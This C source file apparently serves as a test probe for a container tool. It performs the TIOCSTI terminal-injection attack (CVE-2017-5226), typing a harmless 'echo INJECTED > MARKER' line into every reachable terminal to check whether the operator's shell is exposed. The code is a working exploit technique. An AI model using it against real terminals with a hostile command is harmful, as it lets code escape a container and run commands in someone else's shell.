// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * The TIOCSTI attack (CVE-2017-5226): types "echo INJECTED > MARKER\n" into
 * every terminal the process can reach, /dev/tty and fds 0-2, byte by byte.
 * Run inside a container or through nstop enter from an operator's shell:
 * if any of them is the operator's terminal, the line runs there once this
 * process exits. Static, so it runs in any container view. Says on stdout
 * what each try gave, then "tiocsti done".
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static void inject(const char *name, int fd, const char *line)
{
	for (const char *c = line; *c; c++)
		if (ioctl(fd, TIOCSTI, c) < 0) {
			printf("%s: TIOCSTI %s\n", name, strerror(errno));
			return;
		}
	printf("%s: injected\n", name);
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: tiocsti MARKER\n");
		return 2;
	}
	char line[600];
	snprintf(line, sizeof(line), "echo INJECTED > %s\n", argv[1]);
	int tty = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (tty < 0)
		printf("/dev/tty: open %s\n", strerror(errno));
	else
		inject("/dev/tty", tty, line);
	for (int fd = 0; fd < 3; fd++) {
		char name[8];
		snprintf(name, sizeof(name), "fd%d", fd);
		if (isatty(fd))
			inject(name, fd, line);
		else
			printf("%s: not a terminal\n", name);
	}
	printf("tiocsti done\n");
	fflush(stdout);
	return 0;
}
